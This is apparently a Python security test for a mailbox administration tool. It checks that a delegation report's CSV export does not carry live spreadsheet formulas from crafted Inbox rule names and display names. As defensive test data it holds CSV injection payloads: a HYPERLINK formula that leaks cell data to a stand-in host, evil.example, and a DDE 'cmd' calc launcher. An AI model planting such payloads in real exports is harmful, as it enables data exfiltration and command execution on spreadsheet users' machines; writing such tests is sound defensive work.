"""Red team 30: an Inbox rule's name and its target are written by whoever owns the mailbox (or an
attacker who got into it); the delegation report prints them, and its CSV must not carry a live formula
in any cell, nor after a separator a spreadsheet may split a cell at.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable

import pytest

from mailwarden.actions.base import ActionContext
from mailwarden.actions.delegation_report import delegation_report
from mailwarden.emulator.state import TenantState
from tests.conftest import discovered_context
from tests.security.other_admin import OtherAdmin

pytestmark = pytest.mark.anyio
Replicated = Callable[[], Awaitable[None]]

MARIA, TOM = "maria.garcia@acme.com", "tom.becker@acme.com"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def _live_formula(text: str) -> bool:
    for part in [text, *(p for sep in ",;\t" for p in text.split(sep)[1:])]:
        if part.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
            return True
    return False


@pytest.mark.parametrize("name", [FORMULA, f"x;{FORMULA}", "@SUM(1+1)*cmd|' /C calc'!A0", f"a,{FORMULA}"])
async def test_a_crafted_rule_name_and_target_name_export_as_text(
    ctx: ActionContext, tenant: TenantState, replicated: Replicated, name: str
) -> None:
    other = OtherAdmin(tenant)
    other.exchange("New-InboxRule", Mailbox=MARIA, Name=name, RedirectTo=[TOM, "-2+3@evil.example"])
    with tenant.transaction():
        tom = tenant.address_owner(TOM)
        assert tom is not None
        tom.display_name = FORMULA
    await replicated()
    fresh = await discovered_context(ctx.clients)
    view = await delegation_report(fresh, mailbox=MARIA)
    rules = [r for r in view.rows if r["right"] == "ForwardingRule"]
    assert len(rules) == 2, view.rows
    for row in csv.reader(io.StringIO(view.to_csv())):
        for cell in row:
            assert not _live_formula(cell), (cell, row)
